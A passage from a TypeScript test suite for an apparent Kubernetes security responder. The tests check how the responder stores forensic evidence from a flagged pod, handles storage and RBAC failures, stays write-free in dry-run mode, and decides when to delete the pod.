    assert.equal(evidence?.blame, 'ours');
  });

  test('manifest.json is written while the DELETE goes out: its failure stays a warning (logged, in the report), never a reason to hold the pod', async (t) => {
    freshPod({ files: {} });
    stack.gcs.faults.inject({ match: 'POST /upload/', where: (d) => decodeURIComponent((d as { query?: string } | undefined)?.query ?? '').includes('/manifest.json'), status: 403, times: Number.POSITIVE_INFINITY });
    let o: Outcome;
    try {
      o = await deliver(t, 'manifest.json unwritable');
    } finally {
      stack.gcs.faults.clear();
    }
    assert.ok(stack.gcs.faults.calls.some((c) => c.fault !== undefined), 'the store fault was hit');
    assert.equal(o.status, 204);
    assertDeletedAfter(o, 'binary', 'volatile.json');
    assert.equal(o.objectTime('manifest.json'), undefined);
    assert.ok(warnings(o).some((w) => /snapshot: the binary is stored but writing manifest.json failed/.test(w)), warnings(o).join('\n'));
    const evidence = (await o.object('report.json'))?.['evidence'] as { manifestObject: unknown; warnings: string[] } | undefined;
    assert.equal(evidence?.manifestObject, null);
    assert.ok(evidence?.warnings.some((w) => /writing manifest.json failed/.test(w)), 'the report has the late warning');
  });

  test('volatile.json and the binary are written side by side; the DELETE waits for both', async (t) => {
    freshPod({ processes: [MAIN, curlProcess()] });
    const gcs = stack.gcs.faults;
    const from = gcs.calls.length;
    // volatile.json's upload is answered only once the binary's has reached the store (at most
    // 10 s: after one after the other, the binary's would only come after volatile.json's answer).
    const release = waitUntil(() => gcs.calls.slice(from).some(isUploadNamed('/binary')), 10_000);
    gcs.inject({ match: 'POST /upload/', where: uploadNamed('/volatile.json'), release });
    let o: Outcome;
    try {
      o = await deliver(t, 'side by side');
    } finally {
      gcs.clear();
    }
    assert.equal(o.status, 204);
    const calls = gcs.calls.slice(from);
    const volatile = calls.find(isUploadNamed('/volatile.json'));
    const binary = calls.find(isUploadNamed('/binary'));
    assert.ok(volatile?.end !== undefined && binary?.end !== undefined, 'both written');
    assert.ok(binary.start < volatile.end, `the binary's upload (at ${binary.start.toFixed(1)}) reached the store before volatile.json's was answered (at ${volatile.end.toFixed(1)})`);
    assertDeletedAfter(o, 'binary', 'volatile.json');
  });

  test('volatile.json is not written (its upload never answers) but the binary was: no DELETE; the redelivery finds the binary alone, collects again and deletes', async (t) => {
    freshPod({ processes: [MAIN, curlProcess()] });
    const finding = freshFinding('tc');
    // Never answered (not a 503: the client library would retry it in the background and,
    // once the fault is gone, store volatile.json after all, before the redelivery looks).
    stack.gcs.faults.inject({ match: 'POST /upload/', where: uploadNamed('/volatile.json'), hang: true, times: Number.POSITIVE_INFINITY });
    let first: Outcome;
    try {
      first = await deliver(t, 'volatile.json unwritable', finding);
    } finally {
      stack.gcs.faults.clear();
    }
    assert.ok(stack.gcs.faults.calls.some((c) => c.fault !== undefined), 'the store fault was hit');
    assert.equal(first.status, 500, 'ours (the snapshot timed out): Pub/Sub redelivers');
    assert.equal(first.deleteAt, undefined, 'no DELETE without the volatile state stored');
    assert.equal(first.objectTime('volatile.json'), undefined);
    assert.ok(first.objectTime('binary') !== undefined, 'the binary was stored beside the failed write');
    const again = await deliver(t, 'redelivery', finding);
    assert.equal(again.status, 204);
    assert.equal(ephemeralPatches(again).length, 1, 'a collector again, for the volatile state');
    assert.ok(again.objectTime('volatile.json') !== undefined, 'volatile.json stored this time');
    assertDeletedAfter(again, 'binary', 'volatile.json');
    assert.ok(warnings(again).some((w) => /no volatile\.json beside it/.test(w)), warnings(again).join('\n'));
  });

  test('the evidence store is down (our side): no DELETE, the delivery is retried', async (t) => {
    freshPod({});
    // Every read and every upload of the binary's object fails (a first delivery may make no read).
    stack.gcs.faults.inject({ match: /^GET \/storage\/v1\/b\/[^/]+\/o\/.*binary$/, status: 503, times: Number.POSITIVE_INFINITY });
    stack.gcs.faults.inject({ match: /^POST \/upload\/storage\/v1\/b\/[^/]+\/o$/, where: uploadNamed('/binary'), status: 503, times: Number.POSITIVE_INFINITY });
    let o: Outcome;
    try {
      o = await deliver(t, 'store down');
    } finally {
      stack.gcs.faults.clear();
    }
    assert.equal(o.status, 500, 'Pub/Sub redelivers');
    assert.equal(o.deleteAt, undefined, 'no DELETE');
    assert.ok(stack.gcs.faults.calls.some((c) => c.fault !== undefined), 'the store fault was hit');
  });

  test('ephemeral containers forbidden by RBAC (our side): no DELETE, an ERROR entry naming the missing permission', async (t) => {
    freshPod({});
    const o = await deliverWith(t, 'RBAC forbids ephemeral containers', {
      match: `PATCH ${POD_PATH}/ephemeralcontainers`,
      status: 403,
      message: `pods "${DEPLOY_POD}" is forbidden: User "scc-responder@acme-security.iam.gserviceaccount.com" cannot patch resource "pods/ephemeralcontainers" in API group "" in the namespace "${NS}"`,
      times: Number.POSITIVE_INFINITY,
    });
    assert.equal(o.status, 204, 'permanent: acked');
    assert.equal(o.deleteAt, undefined, 'no DELETE');
    const errors = o.entries.filter((e) => e['severity'] === 'ERROR').map((e) => String(e['message']));
    assert.ok(errors.some((m) => /patch on pods\/ephemeralcontainers/.test(m)), errors.join('\n'));
    assert.deepEqual(containerExecs(o), [], 'the container tools do not stand in for our own failure');
  });

  test('dry-run stays write-free: no ephemeral container, and the report says what enforce would collect', async (t) => {
    const policyFile = join(dir, 'dry-run.yaml');
    writeFileSync(policyFile, POLICY_YAML.replace('mode: enforce', 'mode: dry-run'));
    configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: policyFile }), auditDestination: audit.destination });
    try {
      freshPod({ tools: [] }); // no cat, no tar: the case that used to add a debug container in dry-run
      const o = await deliver(t, 'dry-run');
      assert.equal(o.status, 204);
      assert.deepEqual(o.writes, [], 'no write to the pod at all');
      const report = await o.object('report.json');
      const collector = (report?.['evidence'] as { collector?: { used: boolean; reason?: string } } | undefined)?.collector;
      assert.equal(collector?.used, false);
      assert.match(collector?.reason ?? '', /dry-run.*In enforce, the collector .*@sha256:[0-9a-f]{64} would be added/);
    } finally {
      configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: join(dir, 'policy.yaml') }), auditDestination: audit.destination });
    }
  });

  test('negative control: with requireEvidence: stored, a deleted binary keeps the pod (the old gate the attacker could hold shut)', async (t) => {
    const policyFile = join(dir, 'stored.yaml');
    writeFileSync(policyFile, POLICY_YAML.replace('version: 1\n', 'version: 1\nrequireEvidence: stored\n'));
    configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: policyFile }), auditDestination: audit.destination });
    try {
      freshPod({ files: {}, processes: [MAIN] });
      const o = await deliver(t, 'negative control (stored)');
      assert.equal(o.deleteAt, undefined, 'the strict gate holds the DELETE');
      assert.ok(o.objectTime('volatile.json') !== undefined, 'volatile state is still collected');
    } finally {
      configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: join(dir, 'policy.yaml') }), auditDestination: audit.destination });
    }
  });
});

// The fixture's hash is sha256("test"): the stack's FIXTURE_BINARY.
assert.equal(FIXTURE_SHA, '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08');
